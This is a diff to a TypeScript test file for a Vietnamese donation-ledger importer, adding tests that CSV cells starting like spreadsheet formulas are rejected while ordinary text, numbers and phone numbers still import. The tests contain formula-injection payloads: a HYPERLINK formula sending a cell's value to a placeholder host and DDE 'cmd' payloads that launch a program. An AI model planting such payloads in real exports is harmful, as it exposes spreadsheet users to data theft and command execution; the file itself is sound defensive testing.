@@ -7,6 +7,7 @@ import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import * as XLSX from 'xlsx';
 import type { ImportedFile } from '../contract';
 import { TEMPLATE_COLUMNS } from '../db/imports/columns';
+import { isTextFormula } from '../db/imports/text-formulas';
 import { writeZip } from './fuzz-helpers';
 import { tempLedger, type TestLedger } from './helpers';
 import { ALL_LETTERS, tcvn3, vni, windows1258 } from './vietnamese-encodings';
@@ -294,5 +295,73 @@ describe('a file that is not a spreadsheet, named as one', () => {
     XLSX.utils.book_append_sheet(book, XLSX.utils.aoa_to_sheet([HEADERS, ROWS[5]!]), 'Nhập liệu');
     const xml = XLSX.write(book, { type: 'buffer', bookType: 'xlml' }) as Buffer;
     expect(await importBytes('excel-2003.xls', xml)).toMatchObject({ added: 1, errors: [] });
+  });
+});
+
+describe('a CSV cell that a spreadsheet would compute', () => {
+  const FORMULA = 'ô chứa công thức; hãy dán giá trị (Paste Values)';
+
+  it('is refused as a formula in a workbook is, naming its row and column', async () => {
+    const row = (changes: Record<number, string>) => ROWS[4]!.map((v, c) => changes[c] ?? v);
+    const rows = [
+      row({ 1: '=HYPERLINK("http://vi-du.invalid/?d="&A2,"Bấm vào đây")' }),
+      row({ 5: "+cmd|' /C calc'!A0" }),
+      row({ 14: "@SUM(1+1)*cmd|' /C calc'!A0" }),
+      row({ 9: "-2+3+cmd|' /C calc'!A0" }),
+      row({ 5: '  =1+1' }),
+      row({ 14: '-Sheet1!A1' }),
+      row({ 14: '+A1*2' }),
+    ];
+    const result = await importBytes('cong-thuc.csv', Buffer.from(csvOf([HEADERS, ...rows]), 'utf8'));
+    expect(result.added).toBe(0);
+    expect(result.errors.map((e) => [e.row, e.column, e.message])).toEqual([
+      [2, 'Nhà tài trợ', FORMULA],
+      [3, 'Nội dung', FORMULA],
+      [4, 'Ghi chú', FORMULA],
+      [5, 'Thành tiền', FORMULA],
+      [6, 'Nội dung', FORMULA],
+      [7, 'Ghi chú', FORMULA],
+      [8, 'Ghi chú', FORMULA],
+    ]);
+    expect(count('pledges')).toBe(0);
+  });
+
+  it('but numbers, phone numbers and text after a dash are read as before', async () => {
+    const row = (changes: Record<number, string>) => ROWS[5]!.map((v, c) => changes[c] ?? v);
+    const rows = [
+      row({ 5: '- Nhà tình nghĩa', 14: 'Liên hệ +84 912 345 678' }),
+      row({ 5: '-Hỗ trợ (đợt 2)', 14: '+84 (0) 912-345-678' }),
+      row({ 5: '- Nha tinh nghia (dot 3)', 14: '@ Hội trường xã' }),
+      row({ 5: '+ Quà Tết', 14: '- A4 giấy, 5 ram' }),
+    ];
+    const result = await importBytes('khong-cong-thuc.csv', Buffer.from(csvOf([HEADERS, ...rows]), 'utf8'));
+    expect(result.errors).toEqual([]);
+    const stored = t.ledger.sqlite.prepare('SELECT description, notes FROM pledges ORDER BY rowid').all();
+    expect(stored).toEqual(rows.map((r) => ({ description: r[5], notes: r[14] })));
+    // A negative amount is refused as it always was: not as a formula.
+    const negative = await importBytes('am.csv', Buffer.from(csvOf([HEADERS, row({ 9: '-5' })]), 'utf8'));
+    expect(negative.errors).toEqual([
+      expect.objectContaining({ row: 2, column: 'Thành tiền', message: expect.stringContaining('không phải số') }),
+    ]);
+  });
+
+  it.each([
+    ['=A1', true],
+    ['=', false],
+    ['+HYPERLINK("x")', true],
+    ['-cmd|x', true],
+    ["@'x y'!A0", true],
+    ['+$B$2', true],
+    ['-5', false],
+    ['-1.234,56', false],
+    ['+84912345678', false],
+    ['+84 912 345 678', false],
+    ['- Nhà tình nghĩa', false],
+    ['-Hỗ trợ', false],
+    ['@gmail.com', false],
+    ['- 5 hộ gia đình', false],
+    ['Tổ chức =HYPERLINK', false],
+  ])('%s is a formula: %s', (text, formula) => {
+    expect(isTextFormula(text)).toBe(formula);
   });
 });
